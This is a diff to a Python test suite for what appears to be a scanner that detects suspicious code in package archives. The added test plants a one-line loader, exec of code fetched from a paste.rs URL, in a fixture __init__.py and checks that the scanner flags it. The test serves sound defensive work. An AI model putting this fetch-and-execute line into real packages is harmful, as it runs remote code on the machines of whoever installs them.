@@ -47,3 +47,10 @@ def test_script_on_a_personal_file_share(engine: Engine) -> None:
 def test_data_on_a_file_share_is_no_script(engine: Engine) -> None:
     code = "URL = 'https://www.dropbox.com/s/q1w2e3/weights.zip?dl=1'\n"
     assert "script_on_file_share_url" not in _signatures(engine, sdist({"tidy_strings/d.py": code}))
+
+
+def test_exec_of_a_paste_raw_view(engine: Engine) -> None:
+    code = "from urllib import request\nexec(request.urlopen('https://paste.rs/Xy12').read())\n"
+    archive = sdist({"tidy_strings/__init__.py": code})
+    assert "anonymous_file_drop_url" in _signatures(engine, archive)
+    assert run_rule(engine, staging_host_rule, archive)[0]["file"].endswith("__init__.py")
